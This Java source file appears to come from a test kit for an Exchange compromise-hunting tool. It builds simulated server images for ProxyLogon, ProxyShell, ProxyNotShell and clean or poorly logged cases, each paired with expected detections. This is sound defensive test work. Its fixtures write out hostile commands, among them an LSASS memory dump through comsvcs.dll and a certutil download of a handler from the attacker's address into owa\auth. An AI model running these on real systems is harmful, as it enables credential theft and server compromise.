package org.exhunt.testkit.image;

import static org.exhunt.testkit.image.LogKind.APPLICATION;
import static org.exhunt.testkit.image.LogKind.ECP_SERVER;
import static org.exhunt.testkit.image.LogKind.HTTPPROXY;
import static org.exhunt.testkit.image.LogKind.IIS;
import static org.exhunt.testkit.image.LogKind.MANAGEMENT;
import static org.exhunt.testkit.image.LogKind.OAB_GENERATOR;
import static org.exhunt.testkit.image.LogKind.SECURITY;
import static org.exhunt.testkit.image.LogKind.SYSMON;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.exhunt.core.Rows;
import org.exhunt.testkit.logs.PlantedEvent;

/**
 * The committed example images of {@code examples/} that the builder writes, one per story: a victim of each
 * chain, a server that was only probed, a clean server full of benign look-alikes, and one whose logs start too
 * late to tell. Each follows the public descriptions of its attack (see {@link Attacks}); examples/README.md
 * tells each story.
 */
public final class ExampleScenarios {

    private static final String INETPUB = "inetpub/wwwroot/";
    private static final String OWA_AUTH = Layout.INSTALL + "/FrontEnd/HttpProxy/owa/auth/";

    private ExampleScenarios() {}

    public static List<Scenario> all() {
        return List.of(proxyLogonVictim(), proxyShellVictim(), proxyNotShellVictim(), attemptedOnly(), cleanWithLookalikes(),
                logsStartTooLate(), patched2022Logs2023(), marchUpdateInEventLog(), buildChangesMidLog());
    }

    /**
     * HAFNIUM, March 2021, on Exchange 2016 CU19 without the March security update: a probe from one address,
     * then from another the whole chain: SSRF, Set-OabVirtualDirectory with a Chopper script, the reset that writes
     * it to aspnet_client, a CVE-2021-26858 write, requests to the shell, an LSASS dump through comsvcs.dll; a
     * staged archive in ProgramData.
     */
    static Scenario proxyLogonVictim() {
        String ip = "167.99.168.251";     // HAFNIUM-era address listed by Volexity (CISA AA21-062A)
        String scanner = "104.140.114.110";
        String shell = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEW.aspx";
        String url = "/aspnet_client/system_web/errorEW.aspx";
        Instant t = Instant.parse("2021-03-03T05:52:10.118Z");
        String appPool = Attacks.w3wpCommandLine("DefaultAppPool");
        String cmd = "cmd /c cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\"&rundll32.exe"
                + " C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\windows\\temp\\lsass.dmp full&echo [S]&cd&echo [E]";
        return Scenario.named("proxylogon-victim").seed(20210303)
                .title("ProxyLogon (HAFNIUM) victim: Exchange 2016 CU19 without the March 2021 update, exploited on"
                        + " 2021-03-03, a Chopper in aspnet_client, LSASS dumped, data staged")
                .build("15.1.2176.2")
                .logs(Instant.parse("2021-03-02T00:00:00Z"), Duration.ofDays(2), IIS, HTTPPROXY, ECP_SERVER, OAB_GENERATOR,
                        APPLICATION, MANAGEMENT, SECURITY, SYSMON)
                .requestsPerHour(8)
                .step(Attacks.proxyLogonProbe(Instant.parse("2021-03-02T22:14:05.402Z"), scanner, "x.js"))
                .step(Attacks.proxyLogonProbe(t, ip, "y.js"))
                .step(Attacks.proxyLogonForgedRequest(t.plusMillis(1284), ip, "y.js", "mapi/emsmdb?", 200))
                .step(Attacks.proxyLogonForgedRequest(t.plusMillis(2752), ip, "y.js", "ecp/proxyLogon.ecp?", 241))
                .step(Attacks.proxyLogonForgedRequest(t.plusMillis(4115), ip, "y.js",
                        "ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory", 200))
                .step(Attacks.setOabExternalUrl(t.plusMillis(6532), ip, "y.js", "mu9gB0"))
                .step(Attacks.resetOabVirtualDirectory(t.plusMillis(9787), ip, "y.js", shell))
                .step(Attacks.oabDownloadFailed(Instant.parse("2021-03-03T05:58:41.250Z"),
                        "C:\\inetpub\\wwwroot\\aspnet_client\\aspnet_iisstart.aspx"))
                .steps(Attacks.shellRequests(ip, url, Attacks.ANTSWORD, Rows.PROXYLOGON, Instant.parse("2021-03-03T06:03:47Z"),
                        Instant.parse("2021-03-03T06:04:12Z"), Instant.parse("2021-03-03T06:11:30Z")))
                .step(Attacks.process(Instant.parse("2021-03-03T06:11:30.412Z"), "C:\\Windows\\System32\\cmd.exe",
                        "Windows Command Processor", cmd, Attacks.w3wp(), appPool, 7312, 6892, true,
                        Expect.postExploitation(null, "IIS's worker starts a shell: a web shell runs a command")))
                .step(Attacks.process(Instant.parse("2021-03-03T06:11:30.731Z"), "C:\\Windows\\System32\\rundll32.exe",
                        "Windows host process (Rundll32)", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652"
                                + " C:\\windows\\temp\\lsass.dmp full", "C:\\Windows\\System32\\cmd.exe", cmd, 7448, 7312, true,
                        Expect.postExploitation(null, "LSASS memory dumped through comsvcs.dll's MiniDump (HAFNIUM's"
                                + " credential theft)")))
                .file(new DroppedFile(INETPUB + "aspnet_client/system_web/errorEW.aspx",
                        Artifacts.oabVirtualDirectoryShell(Attacks.HOST, "15.1.2176.2", "mu9gB0"),
                        Expect.postExploitation(Rows.PROXYLOGON, "a Chopper inside OAB virtual-directory settings:"
                                + " written by CVE-2021-27065, specific to ProxyLogon")))
                .file(new DroppedFile("Windows/Temp/lsass.dmp", Artifacts.minidump(652),
                        Expect.postExploitation(null, "an LSASS memory dump in %WINDIR%\\temp (Test-ProxyLogon's LsassDump)")))
                .file(new DroppedFile("ProgramData/it.zip", Artifacts.stagedArchive(7, "pst/administrator.pst"),
                        Expect.anyStage(null, "an archive staged in ProgramData (HAFNIUM's it.zip; Test-ProxyLogon's"
                                + " SuspiciousArchive): reported, as context or as evidence by the scan's policy")))
                .build();
    }

    /**
     * ProxyShell, August 2021, on Exchange 2019 CU9 without the April and May updates: a scanner confirms the
     * SSRF; the attacker reaches remote PowerShell with a forged token, gives itself the Mailbox Import Export
     * role, exports a mailbox as a PST-encoded web shell into aspnet_client and a spare one into owa\auth, removes
     * the export request and uses the first shell.
     */
    static Scenario proxyShellVictim() {
        String ip = "203.0.113.99";
        String email = "lfi@evil.corp";
        Instant t = Instant.parse("2021-08-21T03:12:05.311Z");
        return Scenario.named("proxyshell-victim").seed(20210821)
                .title("ProxyShell victim: Exchange 2019 CU9 without the April and May 2021 updates, exploited on"
                        + " 2021-08-21, a PST-export shell in aspnet_client")
                .build("15.2.858.5")
                .logs(Instant.parse("2021-08-20T00:00:00Z"), Duration.ofDays(2), IIS, HTTPPROXY, ECP_SERVER, APPLICATION,
                        MANAGEMENT, SECURITY, SYSMON)
                .requestsPerHour(8)
                .step(Attacks.proxyShellRequest(Instant.parse("2021-08-20T17:40:13.870Z"), "198.51.100.77", "GET",
                        "test.com", "owa/", 302))
                .step(Attacks.proxyShellRequest(t, ip, "POST", email, "autodiscover/autodiscover.xml", 200))
                .step(Attacks.proxyShellRequest(t.plusMillis(1920), ip, "POST", email, "mapi/emsmdb/", 200))
                .step(Attacks.proxyShellPowerShell(t.plusMillis(4477), ip, email, "administrator@contoso.local", 200))
                .step(Attacks.proxyShellPowerShell(t.plusMillis(6803), ip, email, "administrator@contoso.local", 200))
                .step(Attacks.cmdlet(t.plusMillis(36_020), ip, "New-ManagementRoleAssignment",
                        "-Role \"Mailbox Import Export\" -User \"administrator@contoso.local\"",
                        Expect.success(Rows.PROXYSHELL, "the Mailbox Import Export role given through the forged"
                                + " PowerShell session (CVE-2021-34523)")))
                .steps(Attacks.mailboxExport(t.plusMillis(57_440), ip, "iitkzk", INETPUB + "aspnet_client/iitkzk.aspx",
                        t.plusMillis(95_112), 4312, "a mailbox exported as an .aspx file into the web root (CVE-2021-31207)",
                        "the mailbox replication service writes the export to a web folder (CVE-2021-31207's write)"))
                .steps(Attacks.mailboxExport(t.plusMillis(75_280), ip, "iitkzk", OWA_AUTH + "rzgpe.aspx", t.plusMillis(101_530),
                        4312, "a mailbox exported as an .aspx file into owa\\auth, a spare shell (CVE-2021-31207)",
                        "the mailbox replication service writes the second export"))
                .step(Attacks.cmdlet(t.plusMillis(107_900), ip, "Remove-MailboxExportRequest",
                        "-Identity \"administrator@contoso.local\\MailboxExport\" -Confirm \"False\"",
                        Expect.success(Rows.PROXYSHELL, "the export request removed right after: ProxyShell's clean-up")))
                .step(Attacks.proxyShellPowerShell(t.plusMillis(108_650), ip, email, "administrator@contoso.local", 200))
                .steps(Attacks.shellRequests(ip, "/aspnet_client/iitkzk.aspx", Attacks.PYTHON, Rows.PROXYSHELL,
                        Instant.parse("2021-08-21T03:15:12Z"), Instant.parse("2021-08-21T03:15:40Z"),
                        Instant.parse("2021-08-21T03:17:03Z")))
                .file(new DroppedFile(INETPUB + "aspnet_client/iitkzk.aspx", Artifacts.pstShell(21, "kw"),
                        Expect.postExploitation(Rows.PROXYSHELL, "a PST export (!BDN) carrying a page: specific to"
                                + " ProxyShell")))
                .file(new DroppedFile(OWA_AUTH + "rzgpe.aspx", Artifacts.pstShell(22, "gj"),
                        Expect.postExploitation(Rows.PROXYSHELL, "the spare PST-export shell in owa\\auth, never requested"
                                + " in the logs: specific to ProxyShell")))
                .build();
    }

    /**
     * ProxyNotShell and OWASSRF, December 2022, on Exchange 2019 CU12 with the October 2022 update (before the fix):
     * with a user's stolen password, remote PowerShell through Autodiscover and through OWA, a command run by the
     * PowerShell application pool that downloads a handler into owa\auth, then requests to it.
     */
    static Scenario proxyNotShellVictim() {
        String ip = "203.0.113.150";
        String user = "CONTOSO\\frank";
        String shell = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\pxh4HG1v.ashx";
        String download = "cmd.exe /c certutil.exe -urlcache -split -f http://" + ip + "/p.txt \"" + shell + "\"";
        Instant t = Instant.parse("2022-12-13T09:41:20.047Z");
        return Scenario.named("proxynotshell-victim").seed(20221213)
                .title("ProxyNotShell/OWASSRF victim: Exchange 2019 CU12 with the October 2022 update, exploited on"
                        + " 2022-12-13 with a user's password, a loader in owa\\auth")
                .build("15.2.1118.15")
                .logs(Instant.parse("2022-12-12T00:00:00Z"), Duration.ofDays(2), IIS, HTTPPROXY, ECP_SERVER, APPLICATION,
                        MANAGEMENT, SECURITY, SYSMON)
                .requestsPerHour(8)
                .step(Attacks.proxyNotShellRequest(t, ip, user, "jdoe@evil.corp", 200))
                .step(Attacks.proxyNotShellRequest(t.plusMillis(2310), ip, user, "jdoe@evil.corp", 200))
                .step(Attacks.owaSsrf(t.plusSeconds(160), ip, user, 200))
                .step(Attacks.owaSsrf(t.plusMillis(162_450), ip, user, 200))
                .step(Attacks.process(t.plusMillis(170_020), "C:\\Windows\\System32\\cmd.exe", "Windows Command Processor",
                        download, Attacks.w3wp(), Attacks.w3wpCommandLine("MSExchangePowerShellAppPool"), 9120, 3384, true,
                        Expect.success(Rows.PROXYNOTSHELL, "a shell started by Exchange's PowerShell application pool:"
                                + " CVE-2022-41082's code execution")))
                .step(Attacks.fileCreate(t.plusMillis(171_300), "C:\\Windows\\System32\\certutil.exe", 9244, shell,
                        Expect.postExploitation(Rows.PROXYNOTSHELL, "the handler written into owa\\auth, by the command"
                                + " the exploit ran")))
                .steps(Attacks.shellRequests(ip, "/owa/auth/pxh4HG1v.ashx", "python-requests/2.28.1", Rows.PROXYNOTSHELL,
                        Instant.parse("2022-12-13T09:46:31Z"), Instant.parse("2022-12-13T09:47:02Z"),
                        Instant.parse("2022-12-13T10:20:45Z")))
                .file(new DroppedFile(OWA_AUTH + "pxh4HG1v.ashx", Artifacts.ashxLoader("z"),
                        Expect.postExploitation(Rows.PROXYNOTSHELL, "an assembly loader in owa\\auth, named like GTSC's"
                                + " sample, first requested by the address that used the exploit minutes before")))
                .build();
    }

    /**
     * A server kept up to date, probed in March 2023 for every chain and CVE-2020-0688: the requests are refused,
     * nothing is left behind.
     */
    static Scenario attemptedOnly() {
        String a = "198.51.100.77";
        String b = "203.0.113.201";
        Instant t = Instant.parse("2023-03-21T02:11:05.250Z");
        PlantedEvent.WebRequest probe = new PlantedEvent.WebRequest(t, a, "POST", "/ecp/y.js", "", "", Attacks.PYTHON, 404,
                "Ecp", "");
        return Scenario.named("attempted-only").seed(20230321)
                .title("Attempted only: Exchange 2019 CU12 with the March 2023 update, probed for ProxyLogon, ProxyShell,"
                        + " ProxyNotShell and CVE-2020-0688 on 2023-03-21, every request refused")
                .build("15.2.1118.26")
                .logs(Instant.parse("2023-03-20T00:00:00Z"), Duration.ofDays(2), IIS, HTTPPROXY, ECP_SERVER, MANAGEMENT,
                        SECURITY)
                .requestsPerHour(8)
                .step(new Step(t, a, "ProxyLogon probe refused", List.of(
                        new Trace.Line(IIS, probe, Expect.attempt(Rows.PROXYLOGON, "POST to a made-up script under /ecp/"
                                + " (CISA AA21-062A), refused (404)")),
                        new Trace.Line(HTTPPROXY, probe, Expect.context(Rows.PROXYLOGON,
                                "the same request in the HttpProxy Ecp log, with no forged route: the fixed build ignored it")))))
                .step(Attacks.proxyShellRequest(t.plusMillis(3120), a, "GET", "test.com", "owa/", 400))
                .step(Attacks.proxyShellRequest(t.plusMillis(3510), a, "GET", "test.com", "mapi/nspi/", 400))
                .step(Attacks.proxyNotShellRequest(Instant.parse("2023-03-21T14:22:45.903Z"), b, "CONTOSO\\svc-scan",
                        "a@foo.var", 400))
                .step(Attacks.owaSsrf(Instant.parse("2023-03-21T14:23:10.118Z"), b, "CONTOSO\\svc-scan", 400))
                .step(Attacks.viewStateRequest(Instant.parse("2023-03-21T18:05:31.640Z"), b, "CONTOSO\\bob", 500))
                .build();
    }

    /**
     * A clean, up-to-date Exchange SE server with busy logs and the everyday activity that careless rules take for
     * attacks: a mailbox exported to a file share, the OAB virtual directory's URL set by an administrator, the
     * Exchange Management Shell's remote PowerShell, Outlook's Autodiscover JSON, OWA's theme files.
     */
    static Scenario cleanWithLookalikes() {
        Instant t = Instant.parse("2026-09-15T08:30:12.500Z");
        String admin = "CONTOSO\\mallory.admin";
        PlantedEvent.WebRequest rps = new PlantedEvent.WebRequest(t, "10.1.3.12", "POST", "/powershell",
                "serializationLevel=Full;ExchClientVer=15.2.2562.46;clientApplication=ManagementShell;TargetServer=;"
                        + "PSVersion=5.1.20348.2849", admin, "Microsoft WinRM Client", 200, "PowerShell", "");
        PlantedEvent.WebRequest json = new PlantedEvent.WebRequest(t.plusSeconds(3600), "198.51.100.20", "GET",
                "/autodiscover/autodiscover.json", "Email=alice%40contoso.com&Protocol=ActiveSync&RedirectCount=1",
                "CONTOSO\\alice", "Outlook-iOS-Android/1.0", 200, "Autodiscover", "");
        PlantedEvent.WebRequest theme = new PlantedEvent.WebRequest(t.plusSeconds(5400), "10.1.2.47", "GET",
                "/owa/auth/15.2.2562/themes/resources/logon.css", "", "", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
                        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36", 200, "Owa", "");
        return Scenario.named("clean-with-lookalikes").seed(20260915)
                .title("Clean: Exchange SE installed in August 2025, with the August 2026 update, busy logs of every kind and"
                        + " benign look-alikes of attack traces")
                .build("15.2.2562.46")
                // installed fresh with SE, which has every chain fixed: no chain could ever reach this server
                .setupInstall(Instant.parse("2025-08-04T10:05:00Z"), "15.2.2562.17")
                .logs(Instant.parse("2026-09-14T00:00:00Z"), Duration.ofDays(2), IIS, HTTPPROXY, ECP_SERVER, OAB_GENERATOR,
                        APPLICATION, MANAGEMENT, SECURITY, SYSMON)
                .requestsPerHour(12)
                .step(benign(t, rps, "the Exchange Management Shell's remote PowerShell (WinRM client, an administrator)"))
                .step(benign(json.at(), json, "Outlook asking Autodiscover JSON for a user's own address"))
                .step(benign(theme.at(), theme, "the OWA logon page's style sheet"))
                .step(Attacks.cmdlet(t.plusSeconds(60), null, "New-MailboxExportRequest",
                        "-Mailbox \"alice@contoso.com\" -FilePath \"\\\\FS01\\PstExports$\\alice.pst\"",
                        Expect.benign("a mailbox exported to a file share, the documented way (a UNC path is required)")))
                .step(new Step(t.plusSeconds(7200), "10.1.3.12", "an administrator sets the OAB URL in ECP", List.of(
                        new Trace.Line(ECP_SERVER, new PlantedEvent.EcpCommand(t.plusSeconds(7200),
                                "Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'",
                                "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Qm2k"),
                                Expect.benign("Set-OabVirtualDirectory with an ordinary URL")),
                        new Trace.Event(MANAGEMENT, org.exhunt.testkit.evtx.EventSamples.cmdlet(t.plusMillis(7_200_090), 1,
                                "Set-OabVirtualDirectory", "-Identity \"EXCH01\\OAB (Default Web Site)\" -ExternalUrl"
                                        + " \"https://mail.contoso.com/OAB\"", "contoso.local/Users/mallory.admin", "ECP",
                                "5412 w3wp#MSExchangeECPAppPool"),
                                Expect.benign("the same in the cmdlet log: an ordinary URL")))))
                .build();
    }

    /**
     * March 2021: the server got the March security update on 2021-03-18, but its logs, kept for a week, start on
     * 2021-03-16, ten weeks after ProxyLogon's first exploitation, on the unpatched build. No evidence in them
     * cannot mean clean.
     */
    static Scenario logsStartTooLate() {
        return Scenario.named("logs-start-too-late").seed(20210323)
                .title("Logs start too late: Exchange 2016 CU19, patched on 2021-03-18, logs from 2021-03-16 only:"
                        + " ProxyLogon cannot be ruled out")
                .build("15.1.2176.9")
                .ranEarlier("15.1.2176.2", Instant.parse("2021-03-19T00:00:00Z"))
                .logs(Instant.parse("2021-03-16T00:00:00Z"), Duration.ofDays(7), IIS, HTTPPROXY, ECP_SERVER)
                .requestsPerHour(4)
                .build();
    }

    /**
     * The case: an Exchange 2016 CU22 server upgraded to CU22 in October 2021 (its setup log) and given the
     * November 2022 update on 2022-11-21 (its installer's log in Logging\Update\msi), whose only logs are IIS and
     * HttpProxy logs of January 2023. Every chain was exploited in the wild before its fix reached the server, and no
     * log of that time is left: nothing can be told.
     */
    static Scenario patched2022Logs2023() {
        Instant update = Instant.parse("2022-11-21T10:02:41Z");
        return Scenario.named("patched-2022-logs-2023").seed(20230109)
                .title("Patched in 2022, logs of 2023 only: Exchange 2016 CU22 upgraded in October 2021, the November 2022"
                        + " update installed on 2022-11-21, IIS and HttpProxy logs from 2023-01-09: no chain can be told")
                .build("15.1.2375.37")
                .ranEarlier("15.1.2375.7", update)
                .setupUpgrade(Instant.parse("2021-10-15T19:40:00Z"), "15.1.2375.7")
                .updateLog(update, "15.1.2375.37", "Security Update for Exchange Server 2016 Cumulative Update 22 (KB5019758) 15.1.2375.37")
                .logs(Instant.parse("2023-01-09T00:00:00Z"), Duration.ofDays(3), IIS, HTTPPROXY)
                .requestsPerHour(6)
                .build();
    }

    /**
     * Exchange 2016 CU19 installed on 2021-02-08 (its setup log), the March 2021 update installed on 2021-03-03 at
     * 14:12 (Windows Installer's event in the Application log; the HttpProxy lines show the new build from then on),
     * IIS and HttpProxy logs from the install to 2021-03-05: ProxyLogon's window, from the install to the update, is
     * covered and shows nothing.
     */
    static Scenario marchUpdateInEventLog() {
        Instant update = Instant.parse("2021-03-03T14:12:05Z");
        return Scenario.named("march-update-in-event-log").seed(20210303L * 7)
                .title("March 2021 update in the event log: Exchange 2016 CU19 installed on 2021-02-08, the March update"
                        + " installed on 2021-03-03, IIS, HttpProxy and Application logs from the install on: ProxyLogon clean")
                .build("15.1.2176.9")
                .ranEarlier("15.1.2176.2", update)
                .setupInstall(Instant.parse("2021-02-08T09:00:00Z"), "15.1.2176.2")
                .msiUpdate(update, "15.1.2176.9", "Security Update for Exchange Server 2016 Cumulative Update 19 (KB5000871)")
                .logs(Instant.parse("2021-02-08T09:00:00Z"), Instant.parse("2021-03-05T00:00:00Z"), IIS, HTTPPROXY, APPLICATION)
                .requestsPerHour(3)
                .eventsPerDay(APPLICATION, 4)
                .build();
    }

    /**
     * Exchange 2019 CU12 installed on 2022-11-07 (its setup log), the October 2022 update that morning and the November
     * 2022 update on 2022-11-10 at 13:25: nothing but the logs' own lines records the updates, and they change build in
     * the middle of a day's file. ProxyNotShell's window, from the install to the November update, is covered.
     */
    static Scenario buildChangesMidLog() {
        return Scenario.named("build-changes-mid-log").seed(20221110)
                .title("Build changes mid-log: Exchange 2019 CU12 installed on 2022-11-07, its updates seen only as the"
                        + " HttpProxy and ECP lines change build, on 2022-11-07 and 2022-11-10: every row clean")
                .build("15.2.1118.20")
                .ranEarlier("15.2.1118.7", Instant.parse("2022-11-07T09:10:00Z"))
                .ranEarlier("15.2.1118.15", Instant.parse("2022-11-10T13:25:00Z"))
                .setupInstall(Instant.parse("2022-11-07T08:00:00Z"), "15.2.1118.7")
                .logs(Instant.parse("2022-11-07T08:00:00Z"), Instant.parse("2022-11-12T00:00:00Z"), IIS, HTTPPROXY, ECP_SERVER)
                .requestsPerHour(6)
                .build();
    }

    private static Step benign(Instant at, PlantedEvent.WebRequest r, String what) {
        return new Step(at, r.clientIp(), what, List.of(new Trace.Line(IIS, r, Expect.benign(what)),
                new Trace.Line(HTTPPROXY, r, Expect.benign(what))));
    }
}
